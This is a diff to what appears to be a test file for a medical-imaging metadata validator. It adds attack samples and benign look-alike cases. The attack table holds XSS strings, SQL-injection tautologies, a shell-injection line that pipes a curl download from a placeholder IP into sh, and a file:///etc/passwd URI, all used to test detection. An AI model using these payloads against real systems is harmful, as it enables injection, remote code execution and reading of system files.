@@ -75,12 +75,13 @@ ATTACKS = {
     "full-width": (COMMENTS, "LT", "\uff1cscript\uff1ealert(1)".encode(), "TXT-XSS"),
     "split-scheme": (COMMENTS, "LT", b"jav\ta\tscript:alert(1)", "TXT-XSS"),
     "sql-comment-gaps": (DESCRIPTION, "LO", b"x'/**/OR/**/1=1", "TXT-SQLI"),
+    "sql-empty": (DESCRIPTION, "LO", b"x' or ''='", "TXT-SQLI"),
     "sql-tight": (DESCRIPTION, "LO", b"x'or'1'='1", "TXT-SQLI"),
     "shell-pipe": (COMMENTS, "LT", b"x; curl -s http://192.0.2.1/a | sh", "TXT-SHELL"),
     "shell-alone": (STATION, "SH", b"a|id", "TXT-SHELL"),
     "c1": (COMMENTS, "LT", b"\xc2\x9b2J", "TXT-ANSI"),
     "scheme": (RETRIEVE_URL, "UR", b"file:///etc/passwd", "URI-SCHEME"),
-    "unc": (RETRIEVE_URL, "UR", b"\\\\host\\share", "URI-SCHEME"),
+    "unc": (RETRIEVE_URL, "UR", b"\\\\host.example\\share", "URI-SCHEME"),
 }
 
 
@@ -157,6 +158,8 @@ HONEST = {
     "no-date": (COMMENTS, "LT", b"geb. ../../2020, cough ../fever"),
     "own-server": (COMMENTS, "LT", b"\\\\pacs.hospital.local\\reports\\1.pdf"),
     "server-in-prose": (COMMENTS, "LT", b"Images on \\\\archive.example\\share\\x until May"),
+    "quoted-words": (COMMENTS, "LT", b"Pt said 'or' and 'and' = fine; select series 3"),
+    "own-server-address": (RETRIEVE_URL, "UR", b"\\\\pacs01\\images\\1"),
     "versions": (MODEL, "LO", b"\\\\3.2.1.0\\3.2.1.0"),
     "names-in-values": (MODEL, "LO", b"\\\\Dr.Smith\\Jones"),
     "uid-not-available": (INSTANCE, "UI", b"N/A"),
